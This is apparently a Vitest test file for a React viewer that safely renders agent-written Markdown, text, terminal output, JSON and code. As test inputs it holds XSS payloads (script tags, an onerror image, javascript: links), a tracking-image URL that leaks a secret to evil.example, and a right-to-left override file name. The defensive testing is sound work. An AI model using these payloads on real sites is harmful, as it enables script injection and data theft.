import { MantineProvider } from '@mantine/core'
import { render, screen, waitFor } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import type { ReactNode } from 'react'
import { describe, expect, it } from 'vitest'
import { ansiLines } from '#src/ui/ansi.ts'
import { AnsiText } from '#src/ui/AnsiText.tsx'
import { boundJson } from '#src/ui/boundJson.ts'
import { BoundedText } from '#src/ui/BoundedText.tsx'
import { clipText } from '#src/ui/clipText.ts'
import { CodeBlock } from '#src/ui/CodeBlock.tsx'
import { JsonTree } from '#src/ui/JsonTree.tsx'
import { Markdown } from '#src/ui/Markdown.tsx'
import { PlainText } from '#src/ui/PlainText.tsx'
import { visibleText } from '#src/ui/visibleText.ts'

const show = (node: ReactNode) => render(<MantineProvider env="test">{node}</MantineProvider>).container

describe('Markdown that an agent wrote', () => {
  it('is rendered, but for the HTML in it', async () => {
    const page = show(
      <Markdown text={'**bold** <b>raw</b> <script>alert(1)</script>\n\n<iframe src="https://x.example">'} />,
    )
    expect(await screen.findByText('bold')).toHaveProperty('tagName', 'STRONG')
    expect(page.querySelector('script, iframe, b')).toBeNull()
  })

  it('loads no image from anywhere, and names it with a link', async () => {
    const page = show(<Markdown text="![chart](https://evil.example/pixel.gif?q=secret)" />)
    const link = await screen.findByRole('link', { name: 'chart' })
    expect(link).toHaveAttribute('href', 'https://evil.example/pixel.gif?q=secret')
    expect(page.querySelector('img')).toBeNull()
  })

  it('links to the web in a new tab without telling where the reader came from', async () => {
    show(<Markdown text="[site](https://example.org/a)" />)
    const link = await screen.findByRole('link', { name: 'site' })
    expect(link).toHaveAttribute('rel', 'noopener noreferrer')
    expect(link).toHaveAttribute('target', '_blank')
  })

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '/api/health',
    '//evil.example',
    '#top',
  ])('does not link to %s', async (address) => {
    const page = show(<Markdown text={`**seen** [word](${address})`} />)
    expect(await screen.findByText('seen')).toHaveProperty('tagName', 'STRONG')
    expect(page.querySelector('a')).toBeNull()
    expect(page).toHaveTextContent('word')
  })

  it('shows a task list as marks, not as controls', async () => {
    const page = show(<Markdown text={'- [x] done thing\n- [ ] open thing'} />)
    await waitFor(() => expect(page.querySelector('li')).not.toBeNull())
    expect(page.querySelector('input')).toBeNull()
    expect(page).toHaveTextContent('☑ done thing')
  })
})

describe('text that an agent wrote', () => {
  it('shows the characters that would turn its direction', () => {
    expect(visibleText('invoice\u202Efdp.exe')).toBe('invoice‹U+202E›fdp.exe')
  })

  it('shows control characters as pictures, and keeps tabs and line ends', () => {
    expect(visibleText('a\u0000b\u001b[31m\tc\r\nd\u009b')).toBe('a␀b␛[31m\tc\nd‹U+009B›')
    expect(visibleText('half \ud83d of a pair')).toBe('half \ufffd of a pair')
  })

  it('is text where it looks like markup', () => {
    const page = show(<PlainText text={'<img src=x onerror="alert(1)">'} />)
    expect(page.querySelector('img')).toBeNull()
    expect(page).toHaveTextContent('<img src=x onerror="alert(1)">')
  })

  it('is cut with the way to the whole', async () => {
    const page = show(<BoundedText text={'x'.repeat(9000)}>{(shown) => <PlainText text={shown} />}</BoundedText>)
    expect(page.querySelector('pre')?.textContent).toHaveLength(4000)
    await userEvent.click(screen.getByRole('button', { name: 'Show all 9,000 characters' }))
    expect(page.querySelector('pre')?.textContent).toHaveLength(9000)
  })

  it('is cut between characters and at whole lines', () => {
    expect(clipText('ab😀', { chars: 3, lines: 9 })).toBe('ab')
    expect(clipText('a\nb\nc', { chars: 99, lines: 2 })).toBe('a\nb')
    expect(clipText('a\nb', { chars: 99, lines: 2 })).toBe('a\nb')
  })
})

describe('what a terminal printed', () => {
  const plain = (text: string) => ansiLines(text).map((line) => line.map((span) => span.text).join(''))

  it('has its colours, and its escapes are gone', () => {
    const page = show(<AnsiText text={'\u001b[1;31mfailed\u001b[0m ok'} />)
    expect(page.querySelector('[data-colour="red"][data-bold]')).toHaveTextContent('failed')
    expect(page.querySelector('pre')?.textContent).toBe('failed ok')
  })

  it('keeps a colour across lines until it is reset', () => {
    const lines = ansiLines('\u001b[32ma\nb\u001b[39mc')
    expect(lines.map((line) => line.map((span) => span.style.colour))).toEqual([['green'], ['green', undefined]])
  })

  it('cannot set titles, make links or move the cursor', () => {
    expect(plain('\u001b]0;title\u0007a\u001b]8;;https://x\u001b\\b\u001b[2J\u001b[10;10Hc')).toEqual(['abc'])
  })

  it('does not take a palette entry for another colour', () => {
    expect(ansiLines('\u001b[38;5;31mx')[0]?.[0]?.style.colour).toBeUndefined()
    expect(ansiLines('\u001b[38;2;1;31;4;1mx')[0]?.[0]?.style).toMatchObject({ bold: true, underline: false })
  })

  it('loses no text behind a sequence that never ends', () => {
    expect(plain('\u001b]never ends\nnext')).toEqual(['never ends', 'next'])
    expect(plain('a\u001b')).toEqual(['a'])
  })

  it('shows every state of a progress bar', () => {
    expect(plain('1%\r2%\r\ndone')).toEqual(['1%', '2%', 'done'])
  })
})

describe('JSON', () => {
  it('of a hundred thousand values is a tree of a few, with the way to more', async () => {
    const page = show(<JsonTree value={Array.from({ length: 100_000 }, (_, i) => i)} name="many" />)
    expect(await screen.findByRole('tree', { name: 'many' })).toHaveTextContent('⋯ 99,900 more')
    expect(page.querySelectorAll('[role=treeitem]').length).toBeLessThan(120)
    expect(screen.getByRole('button', { name: 'Show all' })).toBeInTheDocument()
  })

  it('keeps keys that are dear to JavaScript, and cuts long texts and objects where they stand', () => {
    const value: unknown = JSON.parse('{"__proto__": "kept", "b": "xxxxxx", "c": 1}')
    const bounded = boundJson(value as { b: string }, { children: 2, chars: 5 })
    expect(Object.entries(bounded.value as object)).toEqual([
      ['__pro⋯ 4 characters more', 'kept'],
      ['b', 'xxxxx⋯ 1 character more'],
      ['⋯', '1 more'],
    ])
    expect(bounded.cuts).toBe(3)
    expect(Object.keys(boundJson(value as { b: string }, { children: 9, chars: 99 }).value as object)[0]).toBe(
      '__proto__',
    )
  })

  it('shows a value that is no tree as it is', () => {
    expect(show(<JsonTree value={null} name="nothing" />)).toHaveTextContent('null')
  })
})

describe('code', () => {
  it('is coloured by elements of ours and stays the text that it was', async () => {
    const code = 'def f():\n    return "<script>alert(1)</script>"'
    const page = show(<CodeBlock code={code} language="Python" />)
    await waitFor(() => expect(page.querySelector('.hljs-keyword')).toHaveTextContent('def'))
    expect(page.querySelector('script')).toBeNull()
    expect(page.querySelector('pre')?.textContent).toBe(code)
  })

  it('is plain in a language that nobody knows, and beyond what can be coloured in time', async () => {
    const long = 'x = 1\n'.repeat(40_000)
    const page = show(
      <>
        <CodeBlock code="return 1" language="klingon" />
        <CodeBlock code={long} language="python" />
        <CodeBlock code="return 2" language="python" />
      </>,
    )
    // Once the last one has its colours the highlighter is there, and the others would have theirs.
    await waitFor(() => expect(page.querySelectorAll('pre')[2]?.querySelector('.hljs-keyword')).not.toBeNull())
    const [unknown, tooLong] = page.querySelectorAll('pre')
    expect(unknown?.querySelector('span')).toBeNull()
    expect(tooLong?.querySelector('span')).toBeNull()
    expect(tooLong?.textContent).toBe(long)
  })
})
